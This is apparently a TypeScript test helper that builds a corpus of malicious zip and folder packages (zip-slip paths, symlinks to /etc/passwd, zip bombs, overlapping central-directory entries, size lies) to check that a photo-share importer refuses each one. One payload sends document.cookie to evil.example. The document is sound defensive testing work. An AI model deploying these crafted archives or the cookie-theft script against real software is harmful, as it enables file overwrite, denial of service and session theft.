/**
 * A corpus of hostile share packages, generated in code from a valid exported package. Zips are
 * written byte by byte (zip libraries refuse to write most of these), so each case is exactly
 * the attack it names.
 */
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import sharp from 'sharp';
import type { ImportLimits, RefusalReason } from '../../src/main/share/refusal';
import { defaultImportLimits } from '../../src/main/share/refusal';
import { filesUnder } from './helpers';

export interface RawEntry {
  name: string | Buffer;
  data: Buffer;
  /** 0 stored, 8 deflated (default: stored). */
  method?: 0 | 8;
  /** Unix mode in the high 16 bits, as Info-ZIP writes it. */
  unixMode?: number;
  /** A lie about the uncompressed size. */
  declaredSize?: number;
}

/** A second central-directory record for an entry's local header and data, under another name. */
export interface AliasEntry {
  name: string;
  /** The entry whose bytes it points at. */
  of: string;
}

/**
 * A minimal, standard zip: local headers, central directory, end record. Aliases make it a
 * crafted one: more central records than local entries, several pointing at the same bytes.
 */
export function rawZip(entries: readonly RawEntry[], aliases: readonly AliasEntry[] = []): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  const centralByName = new Map<string, Buffer>();
  let offset = 0;
  for (const entry of entries) {
    const name = typeof entry.name === 'string' ? Buffer.from(entry.name, 'utf8') : entry.name;
    const method = entry.method ?? 0;
    const body = method === 8 ? zlib.deflateRawSync(entry.data) : entry.data;
    const crc = zlib.crc32(entry.data);
    const size = entry.declaredSize ?? entry.data.length;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6);
    local.writeUInt16LE(method, 8);
    local.writeUInt16LE(0x21, 12);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(body.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE((3 << 8) | 20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt16LE(0x21, 14);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(body.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(((entry.unixMode ?? 0o100644) << 16) >>> 0, 38);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, body);
    centrals.push(central, name);
    centralByName.set(name.toString('utf8'), central);
    offset += local.length + name.length + body.length;
  }
  for (const alias of aliases) {
    const name = Buffer.from(alias.name, 'utf8');
    const central = Buffer.from(centralByName.get(alias.of)!);
    central.writeUInt16LE(name.length, 28);
    centrals.push(central, name);
  }
  const records = entries.length + aliases.length;
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(records, 8);
  end.writeUInt16LE(records, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

interface PackageFileEntry {
  path: string;
  sha256: string;
  bytes: number;
}

/** `size` bytes of zeros with one seeded noise byte every `stride`: deflates about stride/3.9 times. */
function sparseNoise(size: number, stride: number): Buffer {
  const data = Buffer.alloc(size);
  let state = 7;
  for (let i = 0; i < size; i += stride) {
    state = (Math.imul(state, 1103515245) + 12345) >>> 0;
    data[i] = state >>> 24;
  }
  return data;
}

/** RIFF/WEBP magic with nothing decodable after it. */
function fakeWebp(): Buffer {
  const data = Buffer.alloc(64, 0xee);
  data.write('RIFF', 0, 'latin1');
  data.writeUInt32LE(data.length - 8, 4);
  data.write('WEBPVP8 ', 8, 'latin1');
  return data;
}

/** The JPEG start-of-image marker and an APP0 header, then nothing a decoder can use. */
function jpegHeaderOnly(): Buffer {
  return Buffer.concat([Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'), Buffer.alloc(32, 0xff)]);
}

export interface MaliciousCase {
  name: string;
  /** The .zip file or folder to import. */
  path: string;
  reason: RefusalReason;
  /** Tighter limits, so that size and count attacks stay small and fast. */
  limits: ImportLimits;
}

/** Builds every hostile package under outDir from the valid package folder `valid`. */
export async function makeMaliciousCorpus(valid: string, outDir: string): Promise<MaliciousCase[]> {
  // A real image, but not what images/ holds.
  const jpeg = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#808080' } })
    .jpeg()
    .toBuffer();
  fs.mkdirSync(outDir, { recursive: true });
  const validEntries = (): RawEntry[] => filesUnder(valid).map((rel) => ({ name: rel, data: fs.readFileSync(path.join(valid, rel)) }));
  const manifest = JSON.parse(fs.readFileSync(path.join(valid, 'manifest.json'), 'utf8')) as {
    formatVersion: number;
    photos: { sha256: string; image: PackageFileEntry; original?: PackageFileEntry }[];
  };
  const withManifestBytes = (data: Buffer): RawEntry[] => validEntries().map((e) => (e.name === 'manifest.json' ? { ...e, data } : e));
  const withManifest = (change: (m: typeof manifest) => unknown): RawEntry[] =>
    withManifestBytes(Buffer.from(JSON.stringify(change(structuredClone(manifest)))));
  const firstImage = manifest.photos[0]!.image.path;
  const described = (data: Buffer) => ({ sha256: createHash('sha256').update(data).digest('hex'), bytes: data.length });
  /** The valid entries, with `rel` holding `data` and the manifest describing it truthfully. */
  const withReplaced = (rel: string, data: Buffer): RawEntry[] =>
    withManifest((m) => {
      for (const photo of m.photos) for (const file of [photo.image, photo.original]) if (file?.path === rel) Object.assign(file, described(data));
      return m;
    }).map((e) => (e.name === rel ? { ...e, data } : e));
  /** The valid entries with a manifest giving these photos' originals (entries for them not included). */
  const withOriginals = (names: string[], data: () => Buffer): RawEntry[] =>
    withManifest((m) => {
      names.forEach((name, i) => (m.photos[i]!.original = { path: name, ...described(data()) }));
      return m;
    });
  const cases: MaliciousCase[] = [];
  const zipCase = (name: string, reason: RefusalReason, entries: RawEntry[], limits: Partial<ImportLimits> = {}, aliases: AliasEntry[] = []) => {
    const file = path.join(outDir, `${name}.zip`);
    fs.writeFileSync(file, rawZip(entries, aliases));
    cases.push({ name, path: file, reason, limits: { ...defaultImportLimits, ...limits } });
  };
  const evil = { data: Buffer.from('pwned') };

  zipCase('zip-slip', 'unsafe-path', [...validEntries(), { name: '../../evil.txt', ...evil }]);
  zipCase('zip-slip-nested', 'unsafe-path', [...validEntries(), { name: 'images/../../evil.txt', ...evil }]);
  zipCase('absolute-path', 'unsafe-path', [...validEntries(), { name: '/tmp/evil.txt', ...evil }]);
  zipCase('backslash', 'unsafe-path', [...validEntries(), { name: '..\\..\\evil.txt', ...evil }]);
  zipCase('drive-letter', 'unsafe-path', [...validEntries(), { name: 'C:/Windows/evil.txt', ...evil }]);
  zipCase('drive-relative', 'unsafe-path', [...validEntries(), { name: 'C:evil.txt', ...evil }]);
  zipCase('not-utf8-name', 'unsafe-path', [...validEntries(), { name: Buffer.from([0x69, 0xff, 0xfe]), ...evil }]);
  zipCase('symlink', 'symlink', [...validEntries(), { name: 'images/link.webp', data: Buffer.from('/etc/passwd'), unixMode: 0o120777 }]);
  zipCase('duplicate-name', 'duplicate-entry', [...validEntries(), { name: firstImage, data: Buffer.from('other') }]);
  zipCase('zip-bomb', 'compression-ratio', [...validEntries(), { name: 'padding.bin', data: Buffer.alloc(20 * 1024 * 1024), method: 8 }]);
  zipCase(
    'too-many-entries',
    'too-many-entries',
    [...validEntries(), ...Array.from({ length: 60 }, (_, i) => ({ name: `junk/${i}.txt`, data: Buffer.from(String(i)) }))],
    { maxEntries: 50 },
  );
  zipCase('too-large-total', 'too-large', validEntries(), { maxTotalBytes: 20_000 });
  zipCase('too-large-entry', 'too-large', [...validEntries(), { name: 'big.bin', data: Buffer.alloc(300_000, 7) }], { maxEntryBytes: 200_000 });
  zipCase(
    'manifest-too-large',
    'manifest-too-large',
    withManifest((m) => ({ ...m, padding: 'x'.repeat(300_000) })),
    { maxManifestBytes: 200_000 },
  );
  zipCase('manifest-not-json', 'manifest-invalid', withManifestBytes(Buffer.from('{"format": "facet-share",')));
  zipCase(
    'manifest-path-escape',
    'manifest-invalid',
    withManifest((m) => {
      m.photos[0]!.image.path = '../../../etc/passwd';
      return m;
    }),
  );
  zipCase(
    'manifest-extra-field',
    'manifest-invalid',
    withManifest((m) => ({ ...m, script: '<script>alert(1)</script>' })),
  );
  zipCase(
    'newer-version',
    'unsupported-version',
    withManifest((m) => ({ ...m, formatVersion: 99 })),
  );
  zipCase(
    'older-unknown-version',
    'unsupported-version',
    withManifest((m) => ({ ...m, formatVersion: 0 })),
  );
  zipCase(
    'no-manifest',
    'not-a-package',
    validEntries().filter((e) => e.name !== 'manifest.json'),
  );
  zipCase(
    'missing-image',
    'missing-file',
    validEntries().filter((e) => e.name !== firstImage),
  );
  zipCase(
    'tampered-image',
    'checksum-mismatch',
    validEntries().map((e) => (e.name === firstImage ? { ...e, data: Buffer.from(e.data).fill(1, 100, 200) } : e)),
  );
  zipCase(
    'size-lie',
    'size-mismatch',
    validEntries().map((e) => (e.name === firstImage ? { ...e, method: 8 as const, declaredSize: e.data.length - 10 } : e)),
  );
  // The manifest agrees with the lie, so only counting the bytes while reading catches it.
  zipCase(
    'size-lie-agreed',
    'size-mismatch',
    withManifest((m) => {
      m.photos[0]!.image.bytes -= 10;
      return m;
    }).map((e) => (e.name === firstImage ? { ...e, method: 8 as const, declaredSize: e.data.length - 10 } : e)),
  );
  // Six photos' originals, each a central record pointing at one deflate stream that expands 90x
  // (under the per-entry limit of 100x): the 1.15 MB zip of issue 13 that imported as 601 MB.
  const stream = sparseNoise(2 * 1024 * 1024, 350);
  const streamRatio = stream.length / zlib.deflateRawSync(stream).length;
  if (streamRatio < 80 || streamRatio > 99) throw new Error(`the shared stream expands ${streamRatio}x, not about 90x`);
  const shared = manifest.photos.slice(0, 6).map((photo) => `originals/${photo.sha256}.jpg`);
  zipCase(
    'overlapping-entries',
    'overlapping-entries',
    [...withOriginals(shared, () => stream), { name: shared[0]!, data: stream, method: 8 }],
    {},
    shared.slice(1).map((name) => ({ name, of: shared[0]! })),
  );
  // The same, small: a second photo's image is the first one's bytes, stored. Only the overlap
  // gives it away (sizes, ratio, checksum and content all pass).
  const secondImage = manifest.photos[1]!.image.path;
  zipCase(
    'overlapping-images',
    'overlapping-entries',
    withManifest((m) => {
      m.photos[1]!.image = { ...m.photos[0]!.image, path: secondImage };
      return m;
    }).filter((e) => e.name !== secondImage),
    {},
    [{ name: secondImage, of: firstImage }],
  );
  // Every original just at the size where the ratio of one entry starts being checked, and highly
  // compressed: none is a bomb alone, together they expand far past the package's own size. The
  // ratio limit is set to half that expansion, so the case stays a few MB.
  const padded = manifest.photos.map((photo) => `originals/${photo.sha256}.jpg`);
  const padding = Buffer.alloc(1024 * 1024);
  const paddedEntries = [...withOriginals(padded, () => padding), ...padded.map((name) => ({ name, data: padding, method: 8 as const }))];
  const expansion = paddedEntries.reduce((sum, e) => sum + e.data.length, 0) / rawZip(paddedEntries).length;
  zipCase('expands-past-the-package', 'compression-ratio', paddedEntries, { maxRatio: Math.floor(expansion / 2) });
  // Content that is not what its name says, with the manifest agreeing byte for byte.
  const script = Buffer.from('<html><script>fetch("https://evil.example/?" + document.cookie)</script></html>');
  zipCase('image-not-webp', 'not-an-image', withReplaced(firstImage, script));
  zipCase('image-undecodable-webp', 'not-an-image', withReplaced(firstImage, fakeWebp()));
  zipCase('image-is-a-jpeg', 'not-an-image', withReplaced(firstImage, jpeg));
  const firstOriginal = `originals/${manifest.photos[0]!.sha256}.jpg`;
  zipCase('original-not-media', 'not-an-image', [...withOriginals([firstOriginal], () => script), { name: firstOriginal, data: script }]);
  zipCase('original-undecodable-jpeg', 'not-an-image', [...withOriginals([firstOriginal], jpegHeaderOnly), { name: firstOriginal, data: jpegHeaderOnly() }]);
  const notZip = path.join(outDir, 'not-a-zip.zip');
  fs.writeFileSync(notZip, 'this is not a zip file at all, just text');
  cases.push({ name: 'not-a-zip', path: notZip, reason: 'not-a-package', limits: defaultImportLimits });

  const folderCase = (name: string, reason: RefusalReason, build: (dir: string) => void) => {
    const dir = path.join(outDir, name);
    fs.cpSync(valid, dir, { recursive: true });
    build(dir);
    cases.push({ name, path: dir, reason, limits: defaultImportLimits });
  };
  folderCase('folder-symlink-image', 'symlink', (dir) => {
    fs.rmSync(path.join(dir, firstImage));
    fs.symlinkSync('/etc/passwd', path.join(dir, firstImage));
  });
  folderCase('folder-symlink-dir', 'symlink', (dir) => {
    fs.symlinkSync('/etc', path.join(dir, 'thumbs', 'etc'));
  });
  folderCase('folder-image-not-webp', 'not-an-image', (dir) => {
    for (const entry of withReplaced(firstImage, script)) {
      if (entry.name === firstImage || entry.name === 'manifest.json') fs.writeFileSync(path.join(dir, entry.name as string), entry.data);
    }
  });
  folderCase('folder-tampered-image', 'checksum-mismatch', (dir) => {
    const file = path.join(dir, firstImage);
    fs.writeFileSync(file, Buffer.from(fs.readFileSync(file)).fill(9, 50, 60));
  });
  return cases;
}
